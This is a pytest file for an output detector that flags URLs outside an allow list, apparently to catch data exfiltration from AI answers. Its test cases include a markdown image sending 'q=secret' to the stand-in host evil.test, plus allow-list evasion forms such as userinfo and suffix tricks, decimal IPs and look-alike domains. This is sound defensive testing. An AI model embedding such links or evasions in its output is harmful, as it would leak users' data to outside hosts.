"""Addresses in an answer that lead somewhere nobody allowed."""

import pytest

from genaiops.api.detectors import Detector
from genaiops.guardrails.detectors import build

ALLOWED = ["example.com", "*.docs.example.com"]


def found(text: str, allowed: list[str] | None = None) -> list[str]:
    spec = Detector.model_validate({"type": "Exfiltration", "allowedDomains": ALLOWED if allowed is None else allowed})
    return [text[f.start : f.end] for f in build(spec).find(text, 0, complete=True)]


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("![x](https://evil.test/p.png?q=secret)", "https://evil.test/p.png?q=secret"),
        ("[click](http://evil.test/a)", "http://evil.test/a"),
        ("see https://evil.test/a.", "https://evil.test/a."),
        ("[ref]: https://evil.test/a", "https://evil.test/a"),
        ('<img src="https://evil.test/a">', "https://evil.test/a"),
        ("![x](//evil.test/a)", "//evil.test/a"),
        ('<img src="//evil.test/a">', "//evil.test/a"),
        (r"![x](https:\\evil.test/a)", r"https:\\evil.test/a"),
        ("![x](https:/evil.test/a)", "https:/evil.test/a"),
        ("HTTPS://EVIL.TEST/a", "HTTPS://EVIL.TEST/a"),
        ("https://example.com@evil.test/", "https://example.com@evil.test/"),
        ("https://example.com.evil.test/", "https://example.com.evil.test/"),
        ("https://notexample.com/", "https://notexample.com/"),
        ("https://docs.example.com/", "https://docs.example.com/"),
        ("www.evil.test/a?q=1", "www.evil.test/a?q=1"),
        ("https://[::1]:80/", "https://[::1"),
        ("http://2130706433/", "http://2130706433/"),
        ("https://exämple.com/", "https://exämple.com/"),
    ],
)
def test_an_address_elsewhere_is_found(text: str, address: str) -> None:
    assert found(text) == [address]


@pytest.mark.parametrize(
    "text",
    [
        "https://example.com/a?b=c",
        "https://EXAMPLE.com:8443/a",
        "https://example.com./a",
        "https://a.docs.example.com/x and //comment and a//b",
        r"https://example.com\@evil.test/",
        "![x](/local.png) [y](#part) www is the web",
        "std::map<int> x; // http is a protocol: see RFC 9110",
    ],
)
def test_what_is_allowed_or_no_address_is_left_alone(text: str) -> None:
    assert found(text) == []


def test_without_a_list_no_address_is_allowed() -> None:
    spec = Detector.model_validate({"type": "Exfiltration"})
    assert build(spec).find("https://example.com/", 0, complete=True)
